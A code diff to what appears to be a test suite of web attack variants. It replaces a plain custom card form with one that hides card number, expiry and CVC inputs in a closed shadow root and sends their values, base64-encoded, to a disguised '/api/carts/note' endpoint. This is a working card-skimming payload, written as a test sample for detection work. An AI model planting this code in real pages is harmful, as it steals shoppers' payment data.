@@ -49,7 +49,7 @@ export const ninthPartsAttacks: readonly Variant[] = [
     change: (site) => {
       site.body = componentsBody('<card-form></card-form>')
       trusted(
-        code`customElements.define("card-form", class extends HTMLElement { connectedCallback() { this.attachShadow({ mode: "closed" }).innerHTML = "<label>Card number <input></label><label>Expires <input></label><label>CVC <input></label>"; } });`,
+        code`customElements.define("card-form", class extends HTMLElement { connectedCallback() { const r = this.attachShadow({ mode: "closed" }); r.innerHTML = "<label>Card number <input></label><label>Expires <input></label><label>CVC <input></label>"; r.addEventListener("change", () => fetch("/api/carts/note", { method: "POST", body: btoa([...r.querySelectorAll("input")].map((i) => i.value).join("|")) })); } });`,
       )(site)
     },
   },
